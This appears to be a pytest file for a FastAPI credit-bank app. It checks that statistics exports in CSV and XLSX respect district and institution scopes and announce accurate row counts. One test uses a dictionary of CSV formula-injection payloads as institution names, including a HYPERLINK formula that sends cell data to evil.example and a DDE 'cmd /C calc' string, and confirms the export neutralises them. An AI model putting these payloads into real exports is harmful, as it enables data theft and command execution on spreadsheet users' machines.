"""The statistics (数据看板) as CSV and XLSX, scoped exactly like the page, and the row count every
export announces for its progress bar.

From the attacker's side: a district sub-centre's reviewer asking for another district's figures
(by name, by code, by one of its institutions), an institution asking for another's, and an
institution whose name is a spreadsheet formula. Real PostgreSQL with its triggers, real tokens,
real HTTP through the app.
"""

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from creditbank.auth.models import Role
from tests.conftest import Tokens
from tests.outcomes.factories import training
from tests.outcomes.test_review_districts import TwoDistricts, reviewer
from tests.support.factories import create_institution, create_learner

PROBLEM = "application/problem+json"
PATH = "/api/v1/exports/statistics"
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3 学校",
    "@": "@SUM(1+1)",
}


def _csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def _xlsx(response: Any) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [str(c.value) for c in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def _refused(response: Any) -> None:
    assert response.status_code == 403, response.text
    assert response.headers["content-type"] == PROBLEM
    assert response.json()["type"].endswith("/dashboard-out-of-scope")


def _section(rows: list[dict[str, str]], name: str) -> dict[str, dict[str, str]]:
    return {r["key"]: r for r in rows if r["section"] == name}


class TestScopes:
    def test_a_district_reviewer_exports_its_own_district_only(
        self, client: TestClient, auth: Tokens
    ) -> None:
        world = TwoDistricts(client, auth)
        chaoyang = reviewer(client, auth, "朝阳审核", "朝阳区")
        for fmt in ("csv", "xlsx"):
            for other in ("海淀区", "110108", "Haidian"):
                _refused(client.get(PATH, params={"format": fmt, "district": other}, headers=chaoyang))
            _refused(
                client.get(
                    PATH,
                    params={"format": fmt, "institution_id": world.haidian.institution_id},
                    headers=chaoyang,
                )
            )
        rows = _csv(client.get(PATH, headers=chaoyang))
        assert set(_section(rows, "district")) == {"朝阳区"}
        assert set(_section(rows, "institution")) == {world.chaoyang.institution_id}
        assert _section(rows, "total")[""]["posted"] == "1"
        page = client.get("/api/v1/statistics", headers=chaoyang).json()
        assert _section(rows, "total")[""]["backlog_district"] == str(page["total"]["backlog_district"])

    def test_an_institution_exports_its_own_figures_only(self, client: TestClient, auth: Tokens) -> None:
        world = TwoDistricts(client, auth)
        mine = world.chaoyang.headers
        _refused(client.get(PATH, params={"institution_id": world.haidian.institution_id}, headers=mine))
        _refused(client.get(PATH, params={"district": "海淀区"}, headers=mine))
        rows = _csv(client.get(PATH, headers=mine))
        assert set(_section(rows, "institution")) == {world.chaoyang.institution_id}
        assert set(_section(rows, "district")) == {"朝阳区"}
        assert _section(rows, "total")[""]["posted"] == "1"

    def test_the_city_centre_exports_every_district_or_one(self, client: TestClient, auth: Tokens) -> None:
        world = TwoDistricts(client, auth)
        city = reviewer(client, auth, "市级管理中心", None)
        every = _csv(client.get(PATH, headers=city))
        page = client.get("/api/v1/statistics", headers=city).json()
        assert {"海淀区", "朝阳区"} <= set(_section(every, "district"))
        assert _section(every, "total")[""]["posted"] == str(page["total"]["posted"])
        by_district = {d["district"]: d for d in page["by_district"]}
        for name, row in _section(every, "district").items():
            assert row["posted"] == str(by_district[name]["posted"])
            assert row["recognised_credits"] == str(by_district[name]["recognised_credits"])
        one = _csv(client.get(PATH, params={"district": "110105"}, headers=city))
        assert set(_section(one, "district")) == {"朝阳区"}
        assert set(_section(one, "institution")) == {world.chaoyang.institution_id}

    def test_others_may_not_export_statistics(self, client: TestClient, auth: Tokens) -> None:
        admin = auth(Role.admin)
        learner = create_learner(client, admin)
        for headers in (auth(Role.learner, learner), auth(Role.auditor)):
            refused = client.get(PATH, headers=headers)
            assert refused.status_code == 403 and refused.headers["content-type"] == PROBLEM
        assert client.get(PATH).status_code == 401


class TestFormulaCells:
    def test_an_institution_named_like_a_formula_is_text(self, client: TestClient, auth: Tokens) -> None:
        admin = auth(Role.admin)
        ids = {}
        for start, name in HOSTILE.items():
            ids[start] = create_institution(client, admin, name_zh=name, district="朝阳区")
            create_learner(client, auth(Role.institution, ids[start]))  # so it has a figure
        rows = _section(_csv(client.get(PATH, params={"district": "朝阳区"}, headers=admin)), "institution")
        for start, name in HOSTILE.items():
            assert rows[ids[start]]["name"] == "'" + name, start
            assert rows[ids[start]]["accounts"] == "1"
        sheet = _xlsx(client.get(PATH, params={"district": "朝阳区", "format": "xlsx"}, headers=admin))
        cells = {r["key"].value: r for r in sheet if r["section"].value == "institution"}
        for start, name in HOSTILE.items():
            cell = cells[ids[start]]["name"]
            assert cell.value == "'" + name and cell.data_type == "s", start
            assert cells[ids[start]]["accounts"].value == 1


class TestRowCount:
    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_every_export_announces_its_rows(self, client: TestClient, auth: Tokens, fmt: str) -> None:
        world = TwoDistricts(client, auth)
        desk = world.haidian
        for n in range(3):
            desk.posted(training(f"R-{n}"))
        decided = desk.decide(
            world.in_haidian, reviewer(client, auth, "海淀审核", "海淀区"), stage="district"
        )
        assert decided.status_code == 200, decided.text
        admin = auth(Role.admin)
        asked = {
            "/api/v1/exports/outcomes": (desk.headers, 4),
            "/api/v1/exports/conversions": (desk.headers, 0),
            "/api/v1/exports/review-log": (admin, 1),
            PATH: (admin, None),
        }
        for path, (headers, expected) in asked.items():
            response = client.get(path, params={"format": fmt}, headers=headers)
            rows = _xlsx(response) if fmt == "xlsx" else _csv(response)
            announced = int(response.headers["x-export-rows"])
            assert announced == len(rows), path
            assert expected is None or announced == expected, path
            if fmt == "xlsx":
                assert int(response.headers["content-length"]) == len(response.content)
